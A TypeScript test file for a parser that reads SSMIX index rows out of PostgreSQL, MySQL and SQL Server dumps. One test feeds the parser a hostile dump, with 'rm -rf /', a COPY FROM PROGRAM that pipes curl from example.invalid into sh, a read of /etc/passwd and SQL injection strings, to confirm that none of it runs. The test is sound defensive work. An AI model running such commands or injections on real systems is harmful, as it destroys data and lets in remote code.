import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type IndexRow, rowOf } from './columns.ts';
import { SqlDumpReader } from './sql.ts';

function sql(text: string, size = text.length): IndexRow[] {
  const rows: IndexRow[] = [];
  const reader = new SqlDumpReader((columns, values) => {
    const row = rowOf(columns, values);
    if (row) rows.push(row);
  });
  for (let at = 0; at < text.length; at += size) reader.push(text.slice(at, at + size));
  reader.end();
  return rows;
}

const NAME = '0001234567_20260401_OMP-01_000000000000001_20260401100000000_01_1';
const COLUMNS =
  'VolumeLabel,FacilityID,PatientID,OrderDate,DataKind,OrderNo,ProcessingType,EnterOrgCD,TransactionDatetime,OutRelDirectory,FileName,UpdateDatetime';
const VALUES = `'STD','1319999','0001234567','20260401','OMP-01','000000000000001','INS','01','20260401100000000','000/123/0001234567/20260401/OMP-01','${NAME}'`;

describe('SSMIXIDX in SQL', () => {
  it('PostgreSQL: INSERT with and without columns, COPY, other tables passed over', () => {
    const text = `
-- a dump
SET standard_conforming_strings = on;
CREATE TABLE other (a text);
INSERT INTO other VALUES ('SSMIXIDX', '(x)');
INSERT INTO public.ssmixidx (${COLUMNS}) VALUES (${VALUES}, '2026-04-01 10:00:00');
INSERT INTO SSMIXIDX VALUES (${VALUES.replace("'INS'", "'INS'::text")}, NULL), (${VALUES.replace('0001234567', "O''Brien")}, now());
COPY public.ssmixidx (patientid, filename, extra, outreldirectory) FROM stdin;
0001234567\t${NAME}\t\\N\t000\\\\123
\\.
INSERT INTO other VALUES (1);
`;
    const rows = sql(text);
    assert.deepEqual(
      rows.map(({ patient, directory }) => [patient, directory]),
      [
        ['0001234567', '000/123/0001234567/20260401/OMP-01'],
        ['0001234567', '000/123/0001234567/20260401/OMP-01'],
        ["O'Brien", '000/123/0001234567/20260401/OMP-01'],
        ['0001234567', '000/123'],
      ],
    );
    for (const size of [1, 7, 100]) assert.deepEqual(sql(text, size), rows);
  });

  it('MySQL: back ticks, escapes, one statement for many rows, columns by CREATE TABLE', () => {
    const rows = sql(
      'CREATE TABLE `SSMIXIDX` (\n `PatientID` varchar(15) NOT NULL,\n `FileName` varchar(260), `Note` decimal(10,2), PRIMARY KEY (`FileName`)\n);\n' +
        "INSERT INTO `SSMIXIDX` VALUES ('1','a_1',1.5),('2','b\\'_1',NULL),('3','c\\\\d_1',2);\n",
    );
    assert.deepEqual(
      rows.map(({ patient, fileName }) => [patient, fileName]),
      [
        ['1', 'a_1'],
        ['2', "b'_1"],
        ['3', 'c\\d_1'],
      ],
    );
  });

  it('SQL Server: brackets, N strings, CAST, backslashes that escape nothing, no ends of statements', () => {
    const insert = (id: string): string =>
      `INSERT [dbo].[SSMIXIDX] ([PatientID], [OutRelDirectory], [FileName], [UpdateDatetime]) VALUES (N'${id}', N'000\\123\\', N'^経過記録^^11506-3^経過記録^LN_1', CAST(N'2026-04-01T10:00:00.000' AS DateTime))\nGO\n`;
    const rows = sql(`USE [SSMIX]\nGO\n${insert('1')}${insert('2')}`);
    assert.deepEqual(
      rows.map(({ patient, directory, fileName }) => [patient, directory, fileName]),
      [
        ['1', '000/123', '^経過記録^^11506-3^経過記録^LN_1'],
        ['2', '000/123', '^経過記録^^11506-3^経過記録^LN_1'],
      ],
    );
  });

  it('a hostile dump is parsed and never executed: commands are text or nothing', () => {
    const rows = sql(`
\\! rm -rf /
COPY ssmixidx FROM PROGRAM 'curl http://example.invalid/x | sh';
COPY (SELECT 1) TO PROGRAM 'sh';
CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;
LOAD DATA INFILE '/etc/passwd' INTO TABLE SSMIXIDX;
DROP TABLE SSMIXIDX; ATTACH DATABASE '/tmp/x' AS x;
INSERT INTO SSMIXIDX (PatientID, FileName) VALUES ('1'); DELETE FROM listed; --', '../../etc/passwd_1');
INSERT INTO SSMIXIDX (PatientID, FileName) VALUES ('1''); DROP TABLE listed; --', 'a_1');
`);
    assert.deepEqual(
      rows.map(({ patient, fileName }) => [patient, fileName]),
      [["1'); DROP TABLE listed; --", 'a_1']],
    );
  });

  it('what is no dump gives no rows, however it ends', () => {
    for (const text of ['', 'VALUES (', "INSERT INTO SSMIXIDX VALUES ('a", 'COPY ssmixidx FROM stdin;\n1'])
      assert.deepEqual(sql(text), []);
  });
});
